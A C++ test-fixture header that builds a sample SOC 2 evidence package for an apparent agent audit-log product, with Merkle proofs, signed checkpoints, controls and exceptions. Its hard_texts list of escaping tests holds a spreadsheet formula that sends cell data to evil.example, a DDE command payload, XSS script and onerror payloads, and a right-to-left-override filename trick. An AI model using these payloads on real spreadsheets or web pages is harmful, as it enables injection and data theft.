#pragma once

#include "engine/base/bytes.h"
#include "engine/base/sha256.h"
#include "engine/ledger/checkpoint.h"
#include "engine/ledger/merkle_tree.h"
#include "engine/ledger/note_key.h"
#include "tools/soc2/package.h"

namespace recourse::soc2 {

inline Timestamp at(std::string_view text) { return from_rfc3339(text).value(); }

inline std::string id_of(std::string_view prefix, std::uint64_t number) {
  const std::string hex = to_hex(as_text(sha256(std::to_string(number))));
  return std::string(prefix) + "_01K" + hex.substr(0, 23);
}

inline constexpr const char* kSampleOrigin = "audit.example.com/t/7f3a01c2d4e5f607";

inline std::string sample_leaf(const Row& row) {
  const std::string at = std::to_string(row.index.value());
  return R"({"actor":")" + row.actor +
         R"(","actortype":"agent","data":{"note":"</script>"},"id":")" + row.event +
         R"(","sequence":")" + std::string(16 - at.size(), '0') + at + R"(","source":")" +
         kSampleOrigin + R"(","specversion":"1.0","subject":")" + row.subject + R"(","time":")" +
         to_rfc3339(row.time) + R"(","type":")" + row.type + R"("})";
}

inline Row sample_row(std::uint64_t index) {
  Row row;
  row.index = Position(index);
  row.time = at("2026-01-05T09:30:01Z") + std::chrono::seconds(index * 600);
  row.event = id_of("evt", index);
  row.type = "recourse.action.dispatched.v1";
  row.actor = id_of("agt", index % 3);
  row.accountable = id_of("usr", index % 5);
  row.subject = id_of("tkt", index / 4);
  row.decision = id_of("evt", index + 1'000'000);
  row.approval = index % 7 == 0 ? id_of("evt", index + 2'000'000) : "";
  row.policy = "pol_refunds@" + std::to_string(3 + index % 2);
  row.result = "ok";
  row.leaf = leaf_hash(sample_leaf(row));
  return row;
}

/// The tree of the sample's log.
class SampleTree : public HashSource {
 public:
  explicit SampleTree(std::uint64_t size) {
    std::vector<Hash> level;
    for (std::uint64_t i = 0; i < size; ++i) level.push_back(sample_row(i).leaf);
    for (levels_.push_back(level); level.size() > 1; levels_.push_back(level)) {
      std::vector<Hash> above;
      for (std::size_t i = 0; i + 1 < level.size(); i += 2)
        above.push_back(node_hash(level[i], level[i + 1]));
      level = std::move(above);
    }
  }
  recourse::Result<Hash> hash(unsigned level, std::uint64_t index) const override {
    if (level >= levels_.size() || index >= levels_[level].size()) return bad_proof("not here");
    return levels_[level][index];
  }

 private:
  std::vector<std::vector<Hash>> levels_;
};

/// `head` as a log with a key made of these bytes signs it; `key` becomes its verifier's key.
inline void sign_sample(Head& head, std::string& key) {
  const Ed25519Key secret = Ed25519Key::from_seed(std::string(32, '\x07')).value();
  head.note = sign_checkpoint({head.origin, head.size.value(), head.root}, secret);
  key = NoteKey(head.origin, SignatureType::ed25519, secret.public_key()).text();
}

inline Exception sample_exception(const std::string& control, std::uint64_t index, std::string code,
                                  std::string what) {
  Exception found;
  const std::string digits = std::to_string(index);
  found.id = control + '/' + std::string(16 - digits.size(), '0') + digits;
  found.control = control;
  found.code = std::move(code);
  found.index = Position(index);
  found.time = sample_row(index).time;
  found.subject = sample_row(index).subject;
  found.what = std::move(what);
  return found;
}

/// Texts of many scripts, a formula, HTML, a turned direction and very long ones.
inline const std::vector<std::string>& hard_texts() {
  static const std::vector<std::string> texts = {
      "Größe, naïve, Łódź, Český, İstanbul, Việt Nam",
      "Ελληνικά: η πολιτική άλλαξε χωρίς έγκριση",
      "Русский: политика изменена без утверждения",
      "العربية: تم تغيير السياسة دون موافقة",
      "עברית: המדיניות שונתה ללא אישור",
      "हिन्दी: अनुमोदन के बिना नीति बदली गई",
      "ไทย: เปลี่ยนนโยบายโดยไม่ได้รับอนุมัติ",
      "简体中文：未经批准更改了策略 · 日本語：承認なしにポリシーが変更されました · 한국어: 승인 "
      "없이 정책 변경",
      "Emoji ✅ ⚠️ 🚀 👩‍💻",
      "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "</td><script>alert(1)</script><img src=x onerror=alert(2)>&amp;\"'",
      "turned \u202Egnp.exe and a\ttab, a\nline and a bell \a",
      "an-id-without-any-space-" + std::string(400, 'x'),
  };
  return texts;
}

inline Chapter sample_chapter(std::string id, std::string slug, std::string title,
                              std::vector<std::string> criteria, std::uint64_t rows) {
  Chapter chapter;
  chapter.control = {std::move(id),
                     std::move(slug),
                     std::move(title),
                     std::move(criteria),
                     "every action that was dispatched in the range, `action.dispatched`",
                     "type = recourse.action.dispatched.v1 and start <= index < end and from <= "
                     "time < to and not imported",
                     "The decision before it, for the same action and the same payload commitment, "
                     "is an allow under the policy version that was active at the time of the "
                     "decision, and the decision is not later than the dispatch.",
                     {"no_decision: there is no earlier decision for the action",
                      "payload_changed: the decision was about another payload",
                      "policy_not_active: the version that decided was not the active one"}};
  for (std::uint64_t i = 0; i < rows; ++i) chapter.rows.push_back(sample_row(17 + i));
  chapter.result = rows == 0 ? Result::no_population : Result::passed;
  chapter.deviation = {rows, 0, 0, rows == 0 ? 0 : 2'995'732 / rows + 1};
  if (rows > 0) chapter.excluded = {{"imported", 1'204}, {"outside_period", 2}};
  return chapter;
}

inline void add_exceptions(Chapter& chapter, std::size_t count) {
  for (std::size_t i = 0; i < count; ++i) {
    Row& row = chapter.rows[i * 2];
    row.result = "exception";
    row.code = "approver_is_requester";
    Exception found = sample_exception(
        chapter.control.id, row.index.value(), row.code,
        i < hard_texts().size() ? hard_texts()[i]
                                : row.actor + " approved what " + row.actor + " had asked for");
    if (i % 3 == 1) {
      found.status = "accepted";
      found.owner = id_of("usr", i);
      found.until = at("2026-06-30T00:00:00Z");
      found.answers = {id_of("evt", 77 + i)};
    } else if (i % 3 == 2) {
      found.status = "remediated";
      found.owner = id_of("usr", i);
      found.answers = {id_of("evt", 99 + i)};
      found.remediation = {id_of("evt", 111 + i), id_of("evt", 112 + i)};
    }
    chapter.exceptions.push_back(std::move(found));
  }
  chapter.result = Result::exceptions;
  chapter.deviation.exceptions = count;
  chapter.deviation.rate_ppm = count * 1'000'000 / chapter.deviation.population;
  chapter.deviation.upper_ppm = chapter.deviation.rate_ppm + 31'250;
}

inline Table sample_table(std::string id, std::string title, std::size_t rows) {
  Table table{
      std::move(id), std::move(title), {"time", "event", "who", "what", "approved by"}, {}, ""};
  for (std::size_t i = 0; i < rows; ++i) {
    const Row row = sample_row(i * 11);
    table.rows.push_back({to_rfc3339(row.time), row.event, row.accountable,
                          hard_texts()[i % hard_texts().size()], i % 4 == 0 ? "" : row.actor});
  }
  table.note = "Ids of change tickets are the customer’s and were not verified by Recourse.";
  return table;
}

inline Package sample_package() {
  Package package;
  Scope& scope = package.scope;
  scope.system = "Northwind support desk";
  scope.tenant = TenantId("northwind");
  scope.from = at("2026-01-01T00:00:00Z");
  scope.to = at("2026-04-01T00:00:00Z");
  static const SampleTree tree(12'345);
  scope.start = {kSampleOrigin, LogSize(17), root(17, tree).value(), {}, {}, {}};
  scope.end = {kSampleOrigin, LogSize(12'345), root(12'345, tree).value(), {}, {}, {}};
  sign_sample(scope.start, package.log_key);
  sign_sample(scope.end, package.log_key);
  scope.meta = {"audit.example.com/meta",
                LogSize(4'711),
                sha256("meta"),
                "",
                {"witness.example.com/w1 at 2026-04-01T00:01:00Z"},
                {"tsa/2026-04-01.tsr"}};
  scope.time = at("2026-03-31T23:59:58.25Z");
  scope.version = "0.1.0";
  scope.parameters = {{"removal_hours", "24"}, {"alert_burst", "20 in 600 s"}};
  scope.nonce = "auditor-nonce-1";
  scope.sealed = 81'220;
  scope.erased = 314;
  scope.disclosed = 2;

  auto& chapters = package.chapters;
  chapters.push_back(sample_chapter("RC-01", "allow-before-action",
                                    "No agent acts without a prior allow decision under the policy "
                                    "that was active",
                                    {"CC5.2", "CC6.1", "CC6.3", "PI1.3", "AIUC-B006", "AIUC-D003"},
                                    10'000));
  for (const std::size_t i : {41U, 7U, 9'000U, 12U, 3U}) {
    chapters.back().sample.push_back(chapters.back().rows[i].index);
    chapters.back().sample_rows.push_back(i);
    const Row& row = chapters.back().rows[i];
    package.proofs[row.index] = {sample_leaf(row),
                                 inclusion_proof(row.index.value(), 12'345, tree).value()};
  }
  chapters.push_back(sample_chapter("RC-02", "human-approval",
                                    "A person approves where the matrix demands it",
                                    {"CC5.1", "CC6.3", "CC8.1", "AI-Act-14"}, 240));
  add_exceptions(chapters.back(), 16);
  chapters.back().indicators = {
      {"approvals within 5 seconds", "12 of 240", "A person may be waving things through."},
      {"reviewers who never refused", "2", ""}};
  chapters.back().notes = {
      "Roles are those that Recourse knows; the directory of the customer was "
      "not read."};
  chapters.push_back(sample_chapter("RC-08", "access-grants",
                                    "Access is granted on an approved request and no wider than it",
                                    {"CC6.2", "CC6.3"}, 3));
  chapters.push_back(sample_chapter("RC-10", "access-reviews", "Access is reviewed in each cycle.",
                                    {"CC6.2", "CC6.3"}, 2));
  chapters.push_back(
      sample_chapter("RC-14", "stop", "What is stopped stays stopped", {"CC7.4", "AI-Act-14"}, 0));
  for (Row& row : chapters[3].rows) {
    row.meta = true;
    row.result = "not_tested";
    row.code = "no_snapshot";
  }
  for (const Chapter& chapter : chapters) {
    for (const std::string& criterion : chapter.control.criteria)
      package.matrix[criterion].push_back(chapter.control.id);
    for (const Exception& found : chapter.exceptions) package.exceptions.push_back(found);
    Completeness totals;
    totals.table = chapter.control.id;
    totals.query = chapter.control.query;
    totals.query_sha256 = to_hex(as_text(sha256(chapter.control.query)));
    totals.leaves = 12'328;
    totals.rows = chapter.rows.size();
    totals.excluded = chapter.excluded;
    for (const Row& row : chapter.rows) {
      ++totals.by_type[row.type];
      ++totals.by_day[to_rfc3339(row.time).substr(0, 10)];
    }
    if (!chapter.rows.empty()) {
      totals.first = chapter.rows.front().event;
      totals.last = chapter.rows.back().event;
    }
    package.completeness.push_back(std::move(totals));
  }
  package.matrix["A1.2"] = {"RC-22"};
  package.proven = {
      "Nothing in the range was altered, removed, inserted or put in another order "
      "after its head was cosigned.",
      "Each table is a function of the range."};
  package.not_proven = {
      "That every real action was sent to Recourse. Instead: receipts before effects, credentials "
      "of tools that only the gateway holds, and the ingress counters of RC-17.",
      "Times are the operator’s, bounded by the cosignatures around them."};
  package.changes = {sample_table("policy-changes", "Policies", 14),
                     sample_table("releases", "Releases", 0)};
  package.incidents = {sample_table("incidents", "Incidents", 120)};
  package.access = {sample_table("grants", "Grants and removals", 6)};
  package.privacy = {sample_table("requests", "Requests of data subjects", 3)};
  package.integrity = {sample_table("checks", "Checks", 2)};
  package.not_covered = {"Controls over the offices, the people and the vendors of the customer.",
                         "Endpoints and the network outside of the deployment."};
  package.verification = {
      "Take the log key and the first head that you received when the period began, not those in "
      "this package.",
      "Run: python3 verify.py DIR --log-key KEY",
      "Run the report again on the bundle and compare the files byte by byte."};
  package.duties = {{"AI Act 12(1)", "Events are recorded over the lifetime of the system",
                     "every leaf", 12'328, 0, "evidence: 12328, no exception"},
                    {"AI Act 14(4)(e)", "A person can stop the system", "RC-14", 0, 0,
                     "no population in the period"},
                    {"GDPR 22", "A decision of weight is approved by a person", "RC-02", 240, 16,
                     "evidence: 240, 16 exceptions"}};
  return package;
}

}  // namespace recourse::soc2
